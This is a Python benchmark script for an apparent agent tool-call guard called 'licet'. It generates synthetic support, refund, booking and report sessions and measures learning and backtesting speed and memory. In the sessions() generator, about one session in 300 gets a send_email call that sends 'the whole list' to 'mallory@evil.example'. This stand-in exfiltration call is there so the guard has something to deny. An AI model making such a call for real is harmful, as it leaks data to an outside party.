"""What learning and backtesting cost: recorded calls a second on one core, and the peak of memory at 10^5 and at 10^6 calls.

`short calls` are made sessions of two task kinds, five calls each: four reads and a write, one number as argument, an answer of two
short fields (a number and one of five words). That is about the least that a recorded call can hold. The runs to 10^5 and 10^6 calls are
of these.

`made` are made sessions of four task kinds, 3 to 7 calls each, arguments of one to three short values, outputs that are JSON of 60 to
400 characters (an id, an address, a date, a line or two of text), one mail with a short text in about half of them; one session in 300
has a denied call. Still friendly to the code: long mails cost in proportion to their length (`benchmarks/origin.py`). `recordings` are
AgentDojo's, whose outputs are far longer, with `--recordings DIR`. `store` is learning from the guard's store (`licet.learn.stored`):
100,000 short calls without contents, of which nothing is judged again.

Names, numbers and addresses come from pools that do not grow, so that what grows can only be what the code keeps of each session. In the
new manifest of a backtest one kind of two is other than in the old one (`short calls`; half of the sessions are of it, and a tenth in the
run to 10^6, which so takes no longer than learning), or two tools of eight (`made`), or what tools return (`recordings`).

    python -m benchmarks.learning [--calls N] [--json] [--recordings DIR] [--no-memory]

Each figure is that of a child process with one thread: `time.process_time` around the work alone (sessions are made before, and in the
runs to 10^6 meanwhile), and its peak resident set. The two runs to 10^6 calls go side by side, after all others.
"""

from __future__ import annotations

import argparse
import json
import random
import resource
import subprocess
import sys
import time
from collections.abc import Iterable, Iterator
from itertools import islice
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

from licet.guard.rehearsal import Rehearsal
from licet.learn.judged import known_tools
from licet.learn.opened import opened
from licet.learn.runs import runs
from licet.learn.stored import stored_runs
from licet.learn.tally import Tally
from licet.manifest import Manifest, loads
from licet.records import CallRecord, Decision, TaskRecord, Used
from licet.replay import Backtest, Changes, Moving, RecordedCall, Session, read
from licet.store import SqliteStore

SHORT_CALLS, MADE, RECORDINGS, STORE = "short calls", "made", "recordings", "store"
AGENTDOJO = Path(__file__).parent / "agentdojo"
SIZES = (100_000, 1_000_000)
MANIFEST = """
licet: 1
environment: bench
owners: {o: {name: O, contact: o@acme.example}}
agents: {bot: {owner: o, tasks: [answer-ticket, refund-order, book-room, report]}}
tools:
  read_ticket: {access: read, egress: false, format: json, arguments: {number: {}}, store: crm,
                fields: {id: trusted, from: counterpart, order: trusted}}
  find_order: {access: read, egress: false, format: json, arguments: {order: {}}, fields: {id: trusted, total: trusted}}
  find_rooms: {access: read, egress: false, format: json, arguments: {day: {}, seats: {}}, output: trusted}
  read_figures: {access: read, egress: false, format: json, arguments: {month: {}}, output: trusted}
  book_room: {access: write, egress: false, arguments: {room: {origin: [intent, trusted]}, day: {}}}
  refund: {access: write, egress: false, arguments: {order: {origin: [intent, trusted]}, euros: {type: integer}}}
  note: {access: write, egress: false, arguments: {ticket: {origin: [intent, trusted]}, text: {content: true}}, store: crm}
  send_email: {access: write, egress: true, arguments: {to: {origin: [intent, counterpart]}, body: {content: true}}}
tasks:
  answer-ticket:
    intent: Answer a ticket
    ttl: 10m
    tools: {read_ticket: {}, find_order: {}, note: {}, send_email: {at_most: 2}}
    chain: [start -> read_ticket, read_ticket -> find_order, find_order -> note, note -> send_email, read_ticket -> send_email,
            find_order -> send_email, read_ticket -> read_ticket, read_ticket -> note]
  refund-order:
    intent: Refund an order
    ttl: 10m
    tools: {read_ticket: {}, find_order: {}, refund: {at_most: 1}, send_email: {}}
    budgets: [{sum: euros, of: refund, at_most: 200}]
  book-room: {intent: Book a room, ttl: 10m, tools: {find_rooms: {}, book_room: {at_most: 2}, send_email: {}}}
  report: {intent: Report the figures, ttl: 10m, tools: {read_figures: {at_most: 12}, send_email: {}}}
"""
SHORT = """
licet: 1
environment: bench
owners: {o: {name: O, contact: o@acme.example}}
agents: {bot: {owner: o, tasks: [count-stock, count-tools]}}
tools:
  find_item: {access: read, egress: false, arguments: {number: {}}, fields: {number: trusted, state: trusted}}
  find_tool: {access: read, egress: false, arguments: {number: {}}, fields: {number: trusted, state: trusted}}
  counted: {access: write, egress: false, arguments: {number: {}}}
tasks:
  count-stock: {intent: Count the stock, ttl: 10m, tools: {find_item: {}, counted: {at_most: 3}}}
  count-tools: {intent: Count the tools, ttl: 10m, tools: {find_tool: {}, counted: {at_most: 3}}}
"""
SHORT_NEW = SHORT.replace("find_tool: {}, counted: {at_most: 3}", "find_tool: {}, counted: {at_most: 2}")
STATES = ("new", "sold", "lost", "spare", "broken")
NEW = MANIFEST.replace("refund: {at_most: 1}", "refund: {ask: true}").replace("find_rooms: {}", "find_rooms: {at_most: 3}")
PEOPLE = [f"{name}{number}@acme.example" for name in ("ada", "bob", "eve", "grace", "linus") for number in range(40)]
LINES = [f"the parcel of week {week} has not come and I should like to have it or my money back" for week in range(50)]


def short_sessions(number: int, seed: int = 1, changed: float = 0.5) -> Iterator[Session]:
    """So many sessions of five short calls, made as they are asked for; this share is of the kind that the new manifest changes."""
    rng = random.Random(seed)
    for index in range(number):
        kind, tool = ("count-tools", "find_tool") if rng.random() < changed else ("count-stock", "find_item")
        numbers = [rng.randrange(1_000, 9_000) for _ in range(4)]
        calls = [_short(tool, each, rng.choice(STATES)) for each in numbers]
        calls.append(_short("counted", numbers[0], "counted"))
        yield Session(f"s{index}", kind, ("Count what is there",), tuple(calls), f"made:{index + 1}", time=1_700_000_000.0 + index)


def _short(tool: str, number: int, state: str) -> RecordedCall:
    return RecordedCall(tool, {"number": number}, {"number": number, "state": state}, None, executed=True)


def sessions(number: int, seed: int = 1) -> Iterator[Session]:
    """So many sessions, made as they are asked for."""
    rng = random.Random(seed)
    kinds = [_ticket, _refund, _room, _report]
    for index in range(number):
        kind, said, calls = rng.choice(kinds)(rng)
        if rng.random() < 1 / 300:
            calls.append(_call("send_email", "sent", to="mallory@evil.example", body="the whole list"))
        yield Session(f"s{index}", kind, (said,), tuple(calls), f"made:{index + 1}", time=1_700_000_000.0 + index)


def _call(tool: str, output: object, **arguments: object) -> RecordedCall:
    return RecordedCall(tool, arguments, output if isinstance(output, str) else json.dumps(output), None, executed=True)


def _record(rng: random.Random) -> tuple[int, int, str, dict[str, Any]]:
    number, order, who = rng.randrange(1_000, 9_000), rng.randrange(10_000, 19_000), rng.choice(PEOPLE)
    return (
        number,
        order,
        who,
        {"id": number, "from": who, "order": order, "on": f"2026-11-{rng.randrange(1, 29):02}", "text": rng.choice(LINES)},
    )


def _ticket(rng: random.Random) -> tuple[str, str, list[RecordedCall]]:
    number, order, who, record = _record(rng)
    calls = [_call("read_ticket", record, number=number)]
    if rng.random() < 0.4:
        other = _record(rng)[3]
        calls.append(_call("read_ticket", other, number=number + 1))
    if rng.random() < 0.7:
        calls.append(_call("find_order", {"id": order, "total": rng.randrange(10, 90), "state": "sent"}, order=order))
    if rng.random() < 0.6:
        calls.append(_call("note", "ok", ticket=number, text="answered by mail"))
    if rng.random() < 0.6:
        calls.append(_call("send_email", "sent", to=who, body=f"Your order {order} is on its way."))
    return "answer-ticket", f"Answer ticket {number}", calls


def _refund(rng: random.Random) -> tuple[str, str, list[RecordedCall]]:
    number, order, who, record = _record(rng)
    euros = rng.randrange(5, 120)
    calls = [
        _call("read_ticket", record, number=number),
        _call("find_order", {"id": order, "total": euros, "state": "lost"}, order=order),
        _call("refund", {"id": order, "euros": euros}, order=order, euros=euros),
    ]
    if rng.random() < 0.5:
        calls.append(_call("send_email", "sent", to=who, body=f"We pay {euros} euros back."))
    return "refund-order", f"Refund the order of ticket {number}", calls


def _room(rng: random.Random) -> tuple[str, str, list[RecordedCall]]:
    who, day = rng.choice(PEOPLE), f"2026-12-{rng.randrange(1, 29):02}"
    rooms = [{"room": f"R-{rng.randrange(100, 180)}", "seats": rng.randrange(4, 30)} for _ in range(4)]
    searches = [_call("find_rooms", rooms, day=day, seats=rng.randrange(4, 12)) for _ in range(rng.randrange(1, 5))]
    calls = [*searches, _call("book_room", {"booked": True}, room=rooms[0]["room"], day=day)]
    if rng.random() < 0.5:
        calls.append(_call("send_email", "sent", to=who, body=f"{rooms[0]['room']} on {day}."))
    return "book-room", f"Book a room on {day} and tell {who}", calls


def _report(rng: random.Random) -> tuple[str, str, list[RecordedCall]]:
    who = rng.choice(PEOPLE)
    months = range(1, 1 + rng.randrange(3, 7))
    calls = [
        _call("read_figures", {"month": month, "sold": rng.randrange(900), "back": rng.randrange(90)}, month=month) for month in months
    ]
    return "report", f"Report the figures to {who}", [*calls, _call("send_email", "sent", to=who, body="Sold as planned.")]


# The work ------------------------------------------------------------------------------------------------------------------------


def of_calls(number: int, of: str, changed: float = 0.5) -> Iterator[Session]:
    """Made sessions with about so many calls in all."""
    left = number
    for session in short_sessions(number, changed=changed) if of == SHORT_CALLS else sessions(number):
        if left <= 0:
            return
        left -= len(session.calls)
        yield session


def peak_mib() -> float:
    """The largest resident set of this process so far."""
    return round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, 1)


def watched(some: Iterable[Session], peaks: dict[str, float], every: int) -> Iterator[Session]:
    """The sessions, and the peak of memory after each `every` calls."""
    calls, mark = 0, every
    for session in some:
        if calls >= mark:
            peaks[f"{mark:,}"] = peak_mib()
            print(f"{mark:,} calls: {peaks[f'{mark:,}']} MiB", file=sys.stderr, flush=True)
            mark += every
        calls += len(session.calls)
        yield session
    peaks[f"{calls:,}"] = peak_mib()


def backtested(old: Manifest, new: Manifest, some: Iterable[Session], kind: str | None = None) -> dict[str, Any]:
    """Both manifests over sessions, as `licet backtest` does it."""
    clock, changes = Moving(), Changes()
    backtest = Backtest(*(Rehearsal(each, clock=clock, secret=bytes(32)) for each in (old, new)), clock=clock, kind=kind)
    begun = time.process_time()
    for session in some:
        changes.add(backtest.run(session))
    return _measured(changes.calls, time.process_time() - begun) | {"changed": changes.changes.total()}


def learned(manifest: Manifest, some: Iterable[Session], kind: str | None = None) -> dict[str, Any]:
    """Sessions into a tally, as `licet learn` does it."""
    rehearsal, calls = Rehearsal(opened(manifest)), 0
    tally = Tally(known_tools(manifest), manifest.tasks)
    begun = time.process_time()
    for run in runs(some, rehearsal, kind=kind):
        calls += len(run.steps)
        tally.add(run)
    return _measured(calls, time.process_time() - begun) | {"kinds": len(tally.kinds)}


def learned_from_store(calls: int) -> dict[str, Any]:
    """A store with so many calls into a tally, as `licet learn` does it without TRACES."""
    manifest, counted = loads(SHORT), 0
    with TemporaryDirectory(prefix="licet-bench-") as folder:
        store = SqliteStore(Path(folder) / "licet.db")
        fill(store, calls)
        tally = Tally(known_tools(manifest), manifest.tasks)
        begun = time.process_time()
        for run in stored_runs(store):
            counted += len(run.steps)
            tally.add(run)
        seconds = time.process_time() - begun
        store.close()
    return _measured(counted, seconds) | {"kinds": len(tally.kinds)}


def fill(store: SqliteStore, calls: int) -> None:
    """The short calls, as the guard keeps them once they have ended."""
    number = 0
    for session in of_calls(calls, SHORT_CALLS):
        began, task_id = session.time or 0.0, f"{session.id:0>32}"
        store.begin_task(TaskRecord(task_id, session.suite, "bot", "user:ada", "Count", "sha256:0", began, 600.0, root=task_id))
        with store.transaction() as tx:
            for at, call in enumerate(session.calls):
                number += 1
                times = (began + at, began + at + 0.5)
                used = (Used("number", "trusted", "", tool=session.calls[0].tool, field="number"),) if call.tool == "counted" else ()
                record = CallRecord(
                    f"{number:032}", task_id, 0, call.tool, "", "", "done", Decision("allow"), "sha256:0", *times, used=used
                )
                tx.add_call(record, task_id)


def _measured(calls: int, seconds: float) -> dict[str, Any]:
    return {"calls": calls, "seconds": round(seconds, 2), "calls_per_second": round(calls / seconds)}


def _work(what: str, of: str, calls: int, recordings: str, *, streamed: bool) -> dict[str, Any]:
    """One figure, in a process of its own. `streamed`: sessions are made meanwhile, so that none but the present one is held."""
    results: list[dict[str, Any]] = []
    peaks: dict[str, float] = {}
    if of == STORE:
        return learned_from_store(calls) | {"peak_mib": peak_mib()}
    for manifest, new, some, kind in _input(of, calls, recordings, streamed=streamed):
        given = watched(some, peaks, SIZES[0]) if streamed else some
        results.append(backtested(manifest, new, given, kind) if what == "backtest" else learned(manifest, given, kind))
    calls, seconds = sum(each["calls"] for each in results), sum(each["seconds"] for each in results)
    return _measured(calls, max(seconds, 1e-9)) | {"peak_mib": peak_mib()} | ({"peak_mib_after": peaks} if streamed else {})


def _input(of: str, calls: int, recordings: str, *, streamed: bool) -> Iterator[tuple[Manifest, Manifest, Iterable[Session], str | None]]:
    if of != RECORDINGS:
        old, new = (SHORT, SHORT_NEW) if of == SHORT_CALLS else (MANIFEST, NEW)
        yield loads(old), loads(new), of_calls(calls, of, changed=0.1) if streamed else list(of_calls(calls, of)), None
        return
    for suite in ("workspace", "banking"):
        text = (AGENTDOJO / f"{suite}.yaml").read_text(encoding="utf-8")
        found = (item for path in sorted(Path(recordings).glob("*.jsonl*")) for item in read(path))
        some = (item for item in found if isinstance(item, Session) and item.suite == suite)
        yield loads(text), loads(text.replace(": trusted", ": untrusted")), list(islice(some, 600)), "user-task"


def begun(what: str, of: str, calls: int, *, recordings: str = "", streamed: bool = False) -> subprocess.Popen[str]:
    """`_work` in a process of its own."""
    command = [sys.executable, "-m", "benchmarks.learning", "--child", what, "--of", of, "--calls", str(calls), "--recordings", recordings]
    return subprocess.Popen([*command, *(["--streamed"] if streamed else [])], stdout=subprocess.PIPE, text=True)


def ended(process: subprocess.Popen[str]) -> dict[str, Any]:
    """What it found.

    Raises:
        RuntimeError: it failed.
    """
    out, _ = process.communicate()
    if process.returncode:
        raise RuntimeError(f"a child process failed with {process.returncode}")
    found: dict[str, Any] = json.loads(out)
    return found


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("--calls", type=int, default=10_000, help="recorded calls for the speed (default: 10000)")
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--recordings", default="", help="the folder with the AgentDojo recordings")
    parser.add_argument("--no-memory", action="store_true", help="leave out the runs of 10^5 and 10^6 calls")
    parser.add_argument("--child", choices=["learn", "backtest"], help=argparse.SUPPRESS)
    parser.add_argument("--of", choices=[SHORT_CALLS, MADE, RECORDINGS, STORE], default=MADE, help=argparse.SUPPRESS)
    parser.add_argument("--streamed", action="store_true", help=argparse.SUPPRESS)
    options = parser.parse_args()
    if options.child is not None:
        print(json.dumps(_work(options.child, options.of, options.calls, options.recordings, streamed=options.streamed)))
        return
    rows = _rows(options.calls, options.recordings, memory=not options.no_memory)
    if options.json:
        print(json.dumps(rows, indent=2))
        return
    for name, row in rows.items():
        print(f"{name:<31} {row['calls']:>9,} calls {row['calls_per_second']:>7,} calls/s {row['peak_mib']:>7.1f} MiB at most")
        for calls, peak in row.get("peak_mib_after", {}).items():
            print(f"{'':<31} {calls:>9} calls {'':>7}         {peak:>7.1f} MiB at most")


def _rows(calls: int, recordings: str, *, memory: bool) -> dict[str, Any]:
    rows: dict[str, Any] = {}
    for what in ("learn", "backtest"):
        for of in (SHORT_CALLS, MADE, *([RECORDINGS] if recordings else [])):
            rows[f"{what}, {of}"] = ended(begun(what, of, calls, recordings=recordings))
    rows[f"learn, {STORE}"] = ended(begun("learn", STORE, SIZES[0]))
    if memory:
        both = {what: begun(what, SHORT_CALLS, SIZES[-1], streamed=True) for what in ("learn", "backtest")}
        rows |= {f"{what}, {SHORT_CALLS}, memory": ended(process) for what, process in both.items()}
    return rows


if __name__ == "__main__":
    main()
